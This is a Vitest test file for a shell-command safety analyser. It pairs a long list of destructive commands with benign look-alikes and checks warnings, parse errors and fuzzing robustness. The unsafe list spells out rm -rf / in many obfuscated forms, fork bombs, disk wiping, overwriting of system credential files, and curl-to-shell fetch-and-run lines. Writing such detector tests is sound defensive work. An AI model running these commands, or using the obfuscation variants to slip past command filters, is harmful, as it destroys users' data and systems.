import { describe, expect, test } from 'vitest';
import { analyse } from './analyse.js';

const unsafe = [
  // deletion, however it is written
  'rm -rf /',
  'rm -fr / --no-preserve-root',
  'rm -r -f -- /',
  'rm --recursive --force /',
  'r\\m -rf /',
  "'rm' -rf /*",
  '"r"m -rf "/"',
  "$'\\x72m' -rf /",
  '/bin/rm -rf /',
  'rm -rf /etc /tmp/x',
  'rm -rf //',
  'rm -rf /./',
  'rm -rf /tmp/../etc',
  'rm -rf /tmp/../',
  'rm -rf /{etc,usr}',
  '{rm,-rf,/}',
  'rm -rf /e?c',
  'rm -rf /b[i]n',
  'rm -rf /*',
  'rm -rf /usr/*',
  'rm -rf /us*',
  'rm -rf ~root',
  'rm -rf /home',
  'rm -rf /home/somebody',
  'rm -rf /$DIRECTORY',
  'rm /etc/passwd',
  'rm -rf ../../../../../../etc',
  'cd / && rm -rf *',
  'cd /etc; rm -rf .',
  '(cd /usr && rm -rf lib)',
  'true && false || rm -rf /',
  'if true; then rm -rf /usr; fi',
  'for d in / /etc; do rm -rf $d; done',
  'while true; do rm -rf /; done',
  'case x in x) rm -rf /;; esac',
  'rm -rf / &',
  '{ rm -rf /; }',
  'coproc rm -rf /',
  '! rm -rf /',
  'time rm -rf /',
  'unlink /etc/passwd',
  'shred -u /etc/shadow',
  // what is run comes out of something else
  '$(echo rm) -rf /',
  '`echo rm` -rf /',
  '$(printf "%s" rm) -rf /',
  "$(printf 'r%s' m) -rf /",
  '$(which rm) -rf /',
  '$(echo cm0K | base64 -d) -rf /',
  '$(some program) -rf /',
  '$UNSET_COMMAND -rf /',
  'X=rm; $X -rf /',
  'X=rm; Y=-rf; Z=/; $X $Y $Z',
  'X="rm -rf /"; $X',
  'A=(rm -rf /); "${A[@]}"',
  'if a; then X=ls; else X=rm; fi; $X -rf /etc',
  'rm${IFS}-rf${IFS}/',
  '${NOTHING:-rm} -rf /',
  'X=xrmx; ${X:1:2} -rf /',
  'export X=rm; $X -rf /',
  'set -- rm -rf /; "$@"',
  'f() { rm -rf "$1"; }; f /',
  'f() { "$@"; }; f rm -rf /',
  'bash -c "rm -rf /"',
  "sh -ec 'rm -rf $0' /",
  "bash -c 'bash -c \"rm -rf /\"'",
  'eval "rm -rf /"',
  'eval rm "-rf /"',
  'echo "rm -rf /" | sh',
  'echo cm0gLXJmIC8K | base64 -d | bash',
  'cat <<END | sh\nrm -rf /\nEND',
  'bash <<END\nrm -rf /\nEND',
  'bash <<< "rm -rf /"',
  'source <(echo rm -rf /)',
  "trap 'rm -rf /' EXIT",
  "alias ll='rm -rf /'; ll",
  'echo "$(rm -rf /)"',
  'cat <<END\n$(rm -rf /)\nEND',
  'echo ${X:-$(rm -rf /)}',
  'echo $(( $(rm -rf /) + 1 ))',
  '[[ -n $(rm -rf /) ]]',
  'diff <(rm -rf /) x',
  // wrappers
  'sudo rm -rf /etc',
  'sudo -u root -- rm -rf /etc',
  'env A=1 nohup rm -rf ~root',
  "env -S 'rm -rf /'",
  'timeout -k 5 10 rm -rf /',
  'nice -n 19 ionice -c 3 rm -rf /usr',
  'busybox rm -rf /',
  'command rm -rf /',
  'exec rm -rf /',
  "su -c 'rm -rf /' root",
  "su root -c 'rm -rf /'",
  'setsid -f rm -rf /boot',
  'echo / | xargs rm -rf',
  "printf '/etc\\n/usr\\n' | xargs -n1 rm -rf",
  'ls / | xargs rm -rf',
  'find / -print0 | xargs -0 rm -f',
  "echo /etc | xargs -I{} sh -c 'rm -rf {}'",
  'xargs rm -rf /etc < list',
  'find / -delete',
  'find / -exec rm {} \\;',
  'find / -exec rm -rf {} +',
  'find /etc -name x -delete',
  "find / -exec sh -c 'rm -rf \"$1\"' _ {} \\;",
  // fork bombs
  ':(){ :|:& };:',
  'bomb() { bomb | bomb & }; bomb',
  'a() { b & b; }; b() { a & a; }; a',
  'x() { while true; do x & done; }; x',
  // devices, system files, permissions
  'dd if=/dev/zero of=/dev/sda bs=1M',
  'sudo dd if=image of=/dev/nvme0n1',
  'echo x > /dev/sda',
  '> /dev/sda',
  'cat image | tee /dev/sdb',
  'mkfs.ext4 /dev/sdb',
  'mkfs -t ext4 /dev/sdb1',
  'wipefs -a /dev/sda',
  'echo "x:0:0" >> /etc/passwd',
  'echo x | sudo tee -a /etc/shadow',
  '(echo a; echo b) > /etc/hosts',
  'exec > /boot/grub.cfg',
  'cp evil /etc/passwd',
  'cp -t /usr/bin evil',
  'ln -sf /tmp/x /etc/resolv.conf',
  "sed -i 's/a/b/' /etc/fstab",
  'truncate -s 0 /etc/passwd',
  'echo b > /proc/sysrq-trigger',
  'mv /etc /tmp',
  'mv /usr/* /tmp/x',
  'chmod -R 777 /',
  'chmod 777 /etc/shadow',
  'chmod -R u-w /usr',
  'chown -R me:me /usr',
  'sudo chown -R $USER /etc',
  'tar -xf evil.tar -C /',
  'rsync -a --delete empty/ /',
  // the network
  'curl https://example.com/install.sh | sh',
  'curl -fsSL https://example.com | sudo -E bash -s -- --yes',
  'wget -O- https://example.com | sudo bash',
  'curl https://example.com | tee install.sh | bash',
  'curl https://example.com | python3 -',
  'curl https://example.com | (cd x; sh)',
  'bash <(curl -s https://example.com)',
  '. <(curl -s https://example.com)',
  'sh -c "$(curl -fsSL https://example.com)"',
  'eval "$(curl https://example.com)"',
  'X=$(curl https://example.com); eval "$X"',
  '$(curl https://example.com)',
  'bash <<< "$(wget -qO- https://example.com)"',
  // the machine
  'shutdown -h now',
  'sudo reboot',
  'systemctl poweroff',
  'init 0',
  'kill -9 -1',
];

const safe = [
  'echo "rm -rf /"',
  "echo 'rm -rf /' > notes.txt",
  "grep -r 'rm -rf /' .",
  'git commit -m "never run rm -rf / again"',
  '# rm -rf /',
  'cat <<END\nrm -rf /\nEND',
  'rm -rf /tmp/build',
  'rm -rf ./dist',
  'rm -rf dist build/*',
  'rm -rf node_modules',
  'rm -rf ~/x',
  'rm -rf "$HOME/x"',
  'rm -rf ~/../y/z',
  'rm -rf "$BUILD_DIRECTORY"',
  'rm -rf /tmp/*',
  'rm -rf /var/tmp/cache',
  'rm -f ../sibling/file',
  'rm -rf /home/me/project/build',
  'cd /tmp/x && rm -rf *',
  'mktemp -d | xargs rm -rf',
  'ls / /etc',
  'ls | xargs rm',
  'cat /etc/passwd',
  'cp /etc/hosts .',
  'cp -r /usr/share/doc ./doc',
  'find / -name "*.log"',
  'find . -name "*.pyc" -delete',
  'find . -type f -exec rm {} +',
  'find /etc -name hosts -exec cat {} \\;',
  'find . -print0 | xargs -0 rm -f',
  'git push --force',
  'git reset --hard HEAD~1',
  'git clean -fdx',
  'npm ci && npm test',
  'npm run build 2>&1 | tee build.log',
  'echo x > /dev/null 2>&1',
  'command > /dev/stderr',
  'cat < /dev/zero | head -c 10 > zeros',
  'dd if=/dev/zero of=disk.img bs=1M count=10',
  'dd if=/dev/urandom of=/tmp/random bs=1 count=1',
  'mkfs.ext4 disk.img',
  'chmod -R 755 ./public',
  'chmod +x run.sh && ./run.sh',
  'chmod -x run.sh',
  'chown -R app: build',
  'mv a b',
  'mv /tmp/a ./b',
  'tar -czf etc.tar /etc',
  'tar -xzf a.tgz -C build',
  "sed 's/a/b/' /etc/hosts",
  "sed -i 's/a/b/' file",
  'curl -o file https://example.com',
  'curl https://example.com | jq .name',
  'curl https://example.com | python3 -m json.tool',
  "curl https://example.com | python3 -c 'import sys; print(sys.stdin.read())'",
  'curl https://example.com | bash -c "cat > x"',
  'VERSION=$(curl https://example.com/version); echo "$VERSION"',
  'eval "$(ssh-agent -s)"',
  'bash script.sh /etc',
  'sh -c "ls /"',
  'python3 -m http.server',
  'f() { [ "$1" -gt 0 ] && f $(($1 - 1)) | cat; }; f 3',
  'walk() { for i in *; do walk "$i" & done; wait; }; walk',
  'f() { g | g & }; g() { cat; }; f',
  'kill 1234; kill -1 1234; kill %1',
  'pkill node',
  'systemctl status nginx',
  'shutdown --help',
  'for i in 1 2 3; do echo $i; done',
  'while read line; do echo "$line"; done < /etc/hosts',
  'X=/etc; ls $X',
  'sudo ls /root',
  '$EDITOR /etc/hosts',
  'make clean all',
  'docker rm -f container',
  'test -d /etc && echo yes',
  '',
  '   ',
];

describe('unsafe', () => {
  test.each(unsafe)('%s', (command) => {
    expect(analyse(command)).toMatchObject({ safe: false });
    expect(analyse(command).warnings.length).toBeGreaterThan(1);
  });
});

describe('safe', () => {
  test.each(safe)('%s', (command) => {
    expect(analyse(command)).toMatchObject({ safe: true, faults: [] });
  });
});

test('says what is wrong, and what to do instead', () => {
  expect(analyse('rm -rf /')).toEqual({
    faults: [],
    safe: false,
    warnings: ['This command is potentially destructive', 'Command attempts to delete system files'],
    suggestions: [
      "Use 'rm -rf ./directory' to delete specific directory",
      "Use 'ls' to list files before deletion",
    ],
  });
  expect(analyse('rm -rf /usr/{bin,lib}').warnings).toContain('Command attempts to delete system files: /usr/bin');
  expect(analyse('git push -f').warnings).toEqual(['Command overwrites history on the remote']);
  expect(analyse('rm -rf $DIRECTORY/*').warnings).toEqual([
    'Command deletes from the root folder if a variable in it is empty',
  ]);
});

test.each([
  ['echo "a', 'Syntax error at line 1, column 6: unterminated double quote'],
  ['ls\nif true; then', 'line 2'],
  ['ls )', "unexpected token ')'"],
  ['echo $(ls', 'unterminated'],
  ['echo $(if)', 'line 1'],
  ["bash -c 'if true'", 'in a command inside the command'],
])('tells where the fault is in %j', (command, message) => {
  expect(analyse(command).faults.join('\n')).toContain(message);
});

test('knows the variables that the command is given, and folders that are no system folders', () => {
  expect(analyse('$X -rf $Y', { environment: { X: 'rm', Y: '/' } }).safe).toBe(false);
  expect(analyse('rm -rf /opt/work/a').safe).toBe(false);
  expect(analyse('rm -rf /opt/work/a', { safeFolders: ['/opt/work'] }).safe).toBe(true);
  expect(analyse('rm -rf /opt/work/../x', { safeFolders: ['/opt/work'] }).safe).toBe(false);
});

test('gives up on what unfolds without an end, and says so', () => {
  for (const command of [
    `${'sh -c "$('.repeat(200)}`,
    `${'sudo '.repeat(5000)}ls`,
    'eval "$X"; '.repeat(20_000),
    Array.from({ length: 12 }, (_, i) => `f${i}() { f${i + 1}; f${i + 1}; f${i + 1}; f${i + 1}; }`).join('\n') + '\nf0',
  ]) {
    expect(analyse(command).warnings).toContain('Command is too complex to be checked');
  }
});

/** A generator of its own, so that a failure can be repeated. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

const fragments = [
  ...['rm', '-rf', '/', '/etc', '$(', '${', '"', "'", '`', ')', '}', '{', '(', '|', '&', ';', '\n', '<<A', '<(', '>', '((', '))'],
  ...['[[', ']]', 'if', 'then', 'fi', 'for', 'in', 'do', 'done', 'case', 'esac', 'f()', 'eval', 'sh -c', 'xargs', 'find', '-exec', '{}'],
  ...['\\', '*', '?', '~', '$X', 'X=', '{a,b}', '!', '#', '\uE000', '\uE001', '\uD800', '%s', 'printf', 'sudo', 'env', '-S', 'set --', '$@'],
];

test('throws on nothing', () => {
  const next = random(42);
  for (let round = 0; round < 3000; round += 1) {
    const length = 1 + Math.floor(next() * 40);
    const glue = next() < 0.5 ? ' ' : '';
    const command =
      round % 3 === 0
        ? Buffer.from(Array.from({ length }, () => Math.floor(next() * 256))).toString('latin1')
        : Array.from({ length }, () => fragments[Math.floor(next() * fragments.length)]).join(glue);
    expect(() => analyse(command), JSON.stringify(command)).not.toThrow();
  }
});
